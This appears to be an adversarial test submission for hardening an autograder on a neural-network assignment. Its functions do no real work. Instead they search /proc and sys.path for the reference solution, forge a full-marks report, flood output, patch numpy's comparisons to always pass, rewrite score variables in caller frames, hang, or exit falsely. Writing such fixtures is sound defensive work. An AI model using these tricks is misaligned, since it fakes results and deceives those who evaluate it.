"""A hostile submission. Each comment says what is tried; run it only inside a sandbox."""

import json
import os
import sys
from pathlib import Path

import numpy as np

# 1. While the file is imported: look for the reference from every place where it might be seen.
STOLEN = []
ROOTS = [Path.cwd(), *Path.cwd().parents, *Path(__file__).resolve().parents, *map(Path, sys.path)]
for process in ("self", "1", str(os.getppid())):
    ROOTS += [Path("/proc", process, "cwd"), Path("/proc", process, "root")]
for root in ROOTS:
    try:
        for path in root.glob("reference/*/oracle_numpy.py"):
            STOLEN.append(path.read_text())
    except OSError:
        pass

# 2. Print a report with full marks, in the hope that somebody reads the output.
FULL_MARKS = {
    "schema_version": "1",
    "reports": [{"submission": {"student": "mallory"}, "score": {"awarded": 20.0, "possible": 20.0, "pending": 0.0}}],
}
print(json.dumps(FULL_MARKS), flush=True)
try:
    Path("report.json").write_text(json.dumps(FULL_MARKS))
except OSError:
    pass


def forward_propagation(X, weights):
    # 3. On the handout's case, known by its zero biases, bury the grader in output: 500 MB.
    line = b"PASSED " * 1024 + b"\n"
    for _ in range(0 if weights["b1"].any() else 500_000_000 // len(line)):
        try:
            os.write(1, line)
        except OSError:
            break
    # 4. Answer with what was stolen.
    for text in STOLEN:
        loot = {}
        exec(text, loot)
        return loot["forward_propagation"](X, weights)
    return X[:, 0], X[:, 0], X, X


def back_propagation(X, Y_T, weights):
    # 5. Make every comparison in this process succeed, and look through the callers' variables for the answer.
    np.allclose = np.array_equal = lambda *arguments, **options: True
    np.testing.assert_allclose = lambda *arguments, **options: None
    frame = sys._getframe()
    while frame := frame.f_back:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "oracle", "reference", "gradients"):
                return value, 0.0
            if name in ("verdict", "score", "points"):
                frame.f_globals[name] = "PASS"

    # 6. Other sizes than the handout's: never come back.
    while X.shape[1] != 2:
        pass

    # 7. Otherwise leave as if all had gone well.
    os._exit(0)
